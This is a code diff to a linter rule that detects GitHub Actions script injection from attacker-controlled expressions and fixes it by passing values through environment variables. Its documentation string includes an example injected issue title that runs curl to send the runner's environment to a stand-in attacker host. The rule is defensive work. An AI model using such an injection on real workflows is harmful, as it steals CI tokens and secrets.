@@ -1,5 +1,5 @@
 import { defineFileRule } from '../../engine/file-rule';
-import type { Fix, TextEdit } from '../../engine/fixer';
+import { safeFix, type Fix, type TextEdit } from '../../engine/fixer';
 import { addToMapping, fillEmptyPair, yamlScalar } from '../../workflows/edits';
 import { GITHUB_SCRIPT, isAttackerControlled } from '../../workflows/knowledge';
 import { expressionsIn, type Expression, type Step, type Workflow, readableWorkflow } from '../../workflows/workflow';
@@ -15,6 +15,7 @@ export default defineFileRule({
     confidence: 'high',
     cwe: 94,
     fixable: true,
+    fixApplicability: ['safe'],
     docs: {
       what: 'Finds `${{ … }}` expressions that expand text an outsider controls (issue and pull request titles and bodies, comment bodies, branch names, commit messages) inside a `run:` script or the `script:` of `actions/github-script`.',
       why: 'GitHub substitutes the expression into the script\'s source before the shell (or Node) runs it, so the text is code, not data. An issue titled `"; curl -d "$(env)" https://evil.example #` runs that command on your runner, with the job\'s token and secrets. Passing the value through an environment variable keeps it data.',
@@ -107,7 +108,8 @@ function moveToEnv(text: string, workflow: Workflow, step: Step, script: Script,
     if (!edit) return [];
     edits.push(edit);
   }
-  return [{ title: `Pass \`${expression.text}\` through the environment variable ${variable}`, edits, preferred: true }];
+  // The script sees the same value; only the shell no longer reads it as code.
+  return [safeFix(`Pass \`${expression.text}\` through the environment variable ${variable}`, edits)];
 }
 
 function envEdit(text: string, workflow: Workflow, step: Step, entry: string): TextEdit | undefined {
